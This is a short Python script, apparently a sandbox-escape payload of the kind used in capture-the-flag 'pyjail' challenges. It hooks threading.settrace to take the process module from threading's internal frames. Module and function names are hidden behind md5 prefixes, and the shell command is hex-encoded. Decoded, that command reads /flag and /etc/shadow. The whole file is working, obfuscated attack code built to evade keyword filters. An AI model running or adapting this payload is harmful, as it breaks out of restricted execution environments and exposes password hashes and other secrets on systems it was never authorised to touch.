# technique: threading.settrace installs a trace callback for new threads; the first frames it sees belong to the threading module's bootstrap code, and their f_globals hold that module's private alias of the process module; values are matched by an md5 prefix of their name instead of the name itself
import hashlib
import threading

harvest = {}


def fingerprint(text):
    return hashlib.md5(text.encode()).hexdigest()[:10]


def tracer(frame, event, arg):
    probe = frame
    while probe is not None:
        for value in list(probe.f_globals.values()):
            label = getattr(value, "__name__", None)
            if isinstance(label, str) and fingerprint(label) == "dd302f9468":
                harvest["proc"] = value
        probe = probe.f_back
    return None


threading.settrace(tracer)
worker = threading.Thread(target=lambda: None)
worker.start()
worker.join()
threading.settrace(None)

proc = harvest["proc"]
opener = next(v for k, v in vars(proc).items() if fingerprint(k) == "292eeca785")
pipe = opener(bytes.fromhex("69643b20636174202f666c61673b20636174202f6574632f736861646f77").decode())
reader = next(getattr(pipe, k) for k in dir(pipe) if fingerprint(k) == "ecae13117d")
print(reader())
